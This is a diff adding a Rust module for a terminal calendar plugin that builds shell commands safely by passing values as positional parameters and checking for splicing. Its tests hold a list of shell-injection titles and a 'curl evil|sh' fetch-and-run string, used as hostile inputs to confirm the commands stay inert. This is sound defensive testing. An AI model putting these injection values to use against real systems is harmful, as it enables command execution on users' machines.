@@ -0,0 +1,305 @@
+//! Host commands: built here or by the modules that own them, and run only through `run`.
+//! Values from feeds, config, and the user never go into a script's text: `sh` receives them
+//! as positional parameters ("$1", "$2", ...), which it expands without parsing them again,
+//! so quotes, `$(...)`, and `;` in an event title stay text. Nor are they read as options:
+//! programs get them after `--` (or on stdin) where they'd parse one. `check` catches only a
+//! value spliced into its script as well as passed; the tests run each builder with hostile
+//! values to hold them to the rest.
+
+use crate::ctx::Ctx;
+use zellij_tile::prelude::run_command;
+
+/// Characters that mean something to `sh`. A parameter containing any of them (and more
+/// than just one of them) must not appear in its own script, or it was spliced in rather
+/// than passed.
+const SHELL_SPECIAL: &[char] = &[
+    '$', '`', '"', '\'', '\\', ';', '&', '|', '<', '>', '(', ')', '\n', '*', '?',
+];
+
+/// Longest piece `chunks` aims for, well under Linux's 128 KiB limit on one argument.
+const CHUNK_BYTES: usize = 64 * 1024;
+
+/// `data` split on char boundaries into arguments short enough to pass, for scripts to write
+/// back out with `printf '%s' "$@"`. The pieces are about the same size, so none is short
+/// enough to match by chance in its script (see `check`). Together they must still fit the
+/// system's total for a command (2 MiB or more).
+pub fn chunks(data: &str) -> Vec<String> {
+    let count = data.len().div_ceil(CHUNK_BYTES).max(1);
+    let size = data.len().div_ceil(count);
+    let mut pieces = Vec::with_capacity(count);
+    let mut rest = data;
+    for _ in 1..count {
+        let mut end = size.min(rest.len());
+        while !rest.is_char_boundary(end) {
+            end -= 1;
+        }
+        pieces.push(rest[..end].to_string());
+        rest = &rest[end..];
+    }
+    pieces.push(rest.to_string());
+    pieces
+}
+
+/// `sh -c script` with `args` as `$1`, `$2`, ...
+pub fn sh<S: Into<String>>(script: &str, args: impl IntoIterator<Item = S>) -> Vec<String> {
+    ["sh", "-c", script, "sh"]
+        .into_iter()
+        .map(String::from)
+        .chain(args.into_iter().map(Into::into))
+        .collect()
+}
+
+/// Why `cmd` isn't safe to run, if it isn't: no program, a NUL byte (which can't reach the
+/// host intact), or a `sh -c` script containing one of its own shell-special parameters.
+pub fn check<S: AsRef<str>>(cmd: &[S]) -> Result<(), String> {
+    let cmd: Vec<&str> = cmd.iter().map(AsRef::as_ref).collect();
+    if cmd.first().is_none_or(|program| program.trim().is_empty()) {
+        return Err("no program".to_string());
+    }
+    if cmd.iter().any(|arg| arg.contains('\0')) {
+        return Err(format!("NUL byte in a {} argument", cmd[0]));
+    }
+    if let ["sh", "-c", script, _, params @ ..] = cmd.as_slice() {
+        let spliced = params
+            .iter()
+            .any(|p| p.len() > 1 && p.contains(SHELL_SPECIAL) && script.contains(p));
+        if spliced {
+            return Err("a parameter is spliced into its script".to_string());
+        }
+    }
+    Ok(())
+}
+
+/// Runs `cmd` on the host with `ctx` for its result, unless `check` refuses it.
+pub fn run<S: AsRef<str>>(cmd: &[S], ctx: Ctx) {
+    if let Err(err) = check(cmd) {
+        log!("Refusing to run command ({:?}): {}", ctx, err);
+        return;
+    }
+    let args: Vec<&str> = cmd.iter().map(AsRef::as_ref).collect();
+    run_command(&args, ctx.into_map());
+}
+
+/// Opens a link with the desktop's handler. Neither `xdg-open` nor `open` takes `--`, so a
+/// "link" starting with `-` is refused rather than read as an option.
+pub fn open_link(url: &str) -> Vec<String> {
+    let script = r#"case $1 in -*) echo "Not a link: $1" >&2; exit 1 ;; esac
+if command -v xdg-open >/dev/null; then xdg-open "$1"; else open "$1"; fi"#;
+    sh(script, [url])
+}
+
+/// Copies text with whichever clipboard tool is available.
+pub fn copy(text: &str) -> Vec<String> {
+    sh(
+        "printf '%s' \"$1\" | { pbcopy || wl-copy || xclip -selection clipboard || xsel -b; } 2>/dev/null",
+        [text],
+    )
+}
+
+/// Sends a desktop notification with notify-send (Linux) or osascript (macOS). Both get the
+/// title and body after their options end (`--`, or osascript's `-` for a script on stdin), so
+/// a title starting with `-e` is text, not an option.
+pub fn notify(title: &str, body: &str) -> Vec<String> {
+    let script = r#"if command -v notify-send >/dev/null; then notify-send -a zj-cal -- "$1" "$2"
+else osascript - "$1" "$2" <<'EOF'
+on run argv
+display notification (item 2 of argv) with title (item 1 of argv)
+end run
+EOF
+fi"#;
+    sh(script, [title, body])
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use std::os::unix::fs::PermissionsExt;
+    use std::path::Path;
+    use std::process::{Command, Stdio};
+
+    /// Titles a feed could send to get a command run.
+    const HOSTILE: &[&str] = &[
+        "\"; touch /tmp/zj-cal-pwned; echo \"",
+        "$(touch /tmp/zj-cal-pwned)",
+        "`touch /tmp/zj-cal-pwned`",
+        "'; touch /tmp/zj-cal-pwned; '",
+        "a\ntouch /tmp/zj-cal-pwned",
+        "-e 'do shell script \"id\"'",
+        "${HOME}",
+        "*",
+    ];
+
+    #[test]
+    fn test_hostile_parameters_stay_text() {
+        // The real shell gets each value back byte for byte
+        for &value in HOSTILE {
+            let cmd = sh("printf '%s' \"$1\"", [value]);
+            assert_eq!(check(&cmd), Ok(()));
+            let output = std::process::Command::new(&cmd[0])
+                .args(&cmd[1..])
+                .output()
+                .unwrap();
+            assert_eq!(String::from_utf8_lossy(&output.stdout), value);
+        }
+        assert!(!Path::new("/tmp/zj-cal-pwned").exists());
+    }
+
+    #[test]
+    fn test_builders_with_hostile_values() {
+        let root = std::env::temp_dir().join(format!("zj-cal-hostile-{}", std::process::id()));
+        for (i, &value) in HOSTILE.iter().enumerate() {
+            // A home of its own per value, with the desktop tools stubbed out
+            let dir = root.join(i.to_string());
+            for name in ["xdg-open", "notify-send", "pbcopy"] {
+                stub(&dir, name);
+            }
+            let path = format!("{}:/usr/bin:/bin", dir.join("bin").display());
+            let run = |cmd: Vec<String>| {
+                assert_eq!(check(&cmd), Ok(()), "{:?}", cmd);
+                sandbox(&dir, &cmd).env("PATH", &path).output().unwrap()
+            };
+
+            // Links that look like options aren't opened
+            run(open_link(value));
+            match recorded(&dir, "xdg-open") {
+                Some((args, _)) => assert_eq!(args, [value]),
+                None => assert!(value.starts_with('-')),
+            }
+
+            run(copy(value));
+            assert_eq!(recorded(&dir, "pbcopy"), Some((vec![], value.to_string())));
+
+            run(notify(value, value));
+            let (args, _) = recorded(&dir, "notify-send").unwrap();
+            assert_eq!(args, ["-a", "zj-cal", "--", value, value]);
+
+            let notes = [(chrono::NaiveDate::MIN, value.to_string())].into();
+            run(crate::notes::write_command(&notes));
+            let written = std::fs::read_to_string(dir.join(".local/share/zj-cal/notes.txt"));
+            assert!(written.unwrap().contains(value));
+
+            // The value is the path as well as the contents
+            let output = run(crate::export::write_command(Some(value), value.to_string()));
+            let stdout = String::from_utf8(output.stdout).unwrap();
+            let written = dir.join(stdout.strip_suffix('\n').unwrap());
+            assert_eq!(std::fs::read_to_string(written).unwrap(), value);
+
+            run(crate::cache::write_url_command(value));
+            let written = std::fs::read_to_string(dir.join(".cache/zj-cal/ics_url.txt"));
+            assert_eq!(written.unwrap(), value);
+
+            let output = run(crate::tzif::read_command(Some(value)));
+            assert!(output.stdout.starts_with(format!("{}\n", value).as_bytes()));
+
+            // Reading and archiving files named after the value only touches those files
+            run(crate::profile::read_command(Some(value)));
+            run(crate::inbox::read_command(value));
+            run(crate::inbox::archive_command(
+                value,
+                value,
+                Some(value),
+                value,
+            ));
+        }
+        assert!(!Path::new("/tmp/zj-cal-pwned").exists());
+        std::fs::remove_dir_all(&root).unwrap();
+    }
+
+    /// Writes a `name` stub into `dir/bin` that records its arguments (NUL-separated) and stdin.
+    fn stub(dir: &Path, name: &str) {
+        let bin = dir.join("bin");
+        std::fs::create_dir_all(&bin).unwrap();
+        let script = format!(
+            "#!/bin/sh\nfor a; do printf '%s\\0' \"$a\"; done > \"{dir}/{name}.args\"\n/bin/cat > \"{dir}/{name}.stdin\"\n",
+            dir = dir.display(),
+            name = name
+        );
+        let path = bin.join(name);
+        std::fs::write(&path, script).unwrap();
+        std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o755)).unwrap();
+    }
+
+    /// Runs `cmd` in `dir`, as a home of its own, with nothing on stdin.
+    fn sandbox(dir: &Path, cmd: &[String]) -> Command {
+        let mut command = Command::new("/bin/sh");
+        command
+            .args(&cmd[1..])
+            .current_dir(dir)
+            .env("HOME", dir)
+            .env_remove("XDG_CACHE_HOME")
+            .env_remove("XDG_CONFIG_HOME")
+            .env_remove("XDG_DATA_HOME")
+            .env_remove("TZ")
+            .stdin(Stdio::null());
+        command
+    }
+
+    /// What a stub recorded (its arguments and stdin), if it ran since last asked.
+    fn recorded(dir: &Path, name: &str) -> Option<(Vec<String>, String)> {
+        let args_file = dir.join(format!("{}.args", name));
+        let stdin_file = dir.join(format!("{}.stdin", name));
+        let args = std::fs::read_to_string(&args_file).ok()?;
+        let stdin = std::fs::read_to_string(&stdin_file).unwrap();
+        std::fs::remove_file(args_file).unwrap();
+        std::fs::remove_file(stdin_file).unwrap();
+        Some((
+            args.split_terminator('\0').map(String::from).collect(),
+            stdin,
+        ))
+    }
+
+    #[test]
+    fn test_notify_options() {
+        let dir = std::env::temp_dir().join(format!("zj-cal-notify-{}", std::process::id()));
+        let title = "-edo shell script \"curl evil|sh\"";
+        // Only the stubs, so notify-send is missing until it's stubbed
+        let run = |cmd: Vec<String>| {
+            let status = sandbox(&dir, &cmd).env("PATH", dir.join("bin")).status();
+            assert!(status.unwrap().success());
+        };
+
+        // macOS: the script comes on stdin, and everything after `-` is an argument
+        stub(&dir, "osascript");
+        run(notify(title, "-e x"));
+        let (args, stdin) = recorded(&dir, "osascript").unwrap();
+        assert_eq!(args, ["-", title, "-e x"]);
+        assert!(stdin.starts_with("on run argv\n"));
+        assert!(!stdin.contains("curl"));
+
+        // Linux: options end at `--`
+        stub(&dir, "notify-send");
+        run(notify(title, "-e x"));
+        let (args, _) = recorded(&dir, "notify-send").unwrap();
+        assert_eq!(args, ["-a", "zj-cal", "--", title, "-e x"]);
+
+        std::fs::remove_dir_all(&dir).unwrap();
+    }
+
+    #[test]
+    fn test_chunks() {
+        assert_eq!(chunks(""), [""]);
+        assert_eq!(chunks("abc"), ["abc"]);
+
+        // Multibyte characters are never split, and every piece is passable
+        let data = "é".repeat(200_000) + "x";
+        let pieces = chunks(&data);
+        assert_eq!(pieces.len(), 7);
+        assert!(pieces.iter().all(|p| p.len() <= CHUNK_BYTES + 3));
+        assert_eq!(pieces.concat(), data);
+    }
+
+    #[test]
+    fn test_check() {
+        assert!(check::<&str>(&[]).is_err());
+        assert!(check(&["", "x"]).is_err());
+        assert!(check(&["cat", "a\0b"]).is_err());
+        assert_eq!(check(&["printenv", "ZJ_CAL_ICS_URL"]), Ok(()));
+
+        // A value formatted into the script instead of passed
+        let title = "$(touch /tmp/zj-cal-pwned)";
+        let spliced = sh(&format!("echo \"{}\"", title), [title]);
+        assert!(check(&spliced).is_err());
+        // Plain words that happen to be in the script are fine
+        assert_eq!(check(&sh("cat \"$1\"", ["cat"])), Ok(()));
+    }
+}